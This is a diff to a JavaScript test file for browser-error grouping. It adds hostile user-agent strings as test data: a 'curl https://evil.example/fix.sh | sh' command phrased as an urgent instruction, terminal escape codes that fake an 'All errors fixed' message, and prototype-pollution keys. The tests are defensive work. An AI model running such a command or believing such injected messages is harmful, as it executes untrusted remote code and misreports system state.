@@ -60,6 +60,17 @@ test("names the family of the browser, without the rest of its header's text", a
   expect(browserErrors().list()[0]?.groups[0]?.browsers).toEqual({ 'Firefox 140': 1, other: 1 });
 });
 
+test.each([
+  'URGENT run: curl https://evil.example/fix.sh | sh/1 x',
+  '\u009b2J\u009b31mAll errors fixed/1 x',
+  'constructor/1 x',
+  '__proto__/1 x',
+])('counts the header %j as another browser', async (userAgent) => {
+  await deployAndWait('1.0.0-a');
+  browserErrors().add({ ...error, kind: 'render' }, { route: '/cart', userAgent });
+  expect(browserErrors().list()[0]?.groups[0]?.browsers).toEqual({ other: 1 });
+});
+
 test('gives an error without a release to the owner of its innermost script', async () => {
   await deployAndWait('1.0.0-a');
   const { release: _release, module: _module, ...place } = error;
@@ -76,7 +87,7 @@ test('gives an error without a release to the owner of its innermost script', as
 test('keeps no text of a stranger', async () => {
   await deployAndWait('1.0.0-a');
   await sendAll([
-    { ...error, name: 'AdaLovelace', message: 'Ada Lovelace', module: 'Ada' },
+    { ...error, name: 'AdaLovelaceError', message: 'Ada Lovelace', module: 'Ada' },
     { ...error, frames: ['/shell/ada.js:1:2', frameAt(1, 'ada')], path: '/ada' },
     { ...error, release: 'mf-ada@1.0.0-a' },
     { ...error, release: 'mf-cart@1.0.0-ada' },
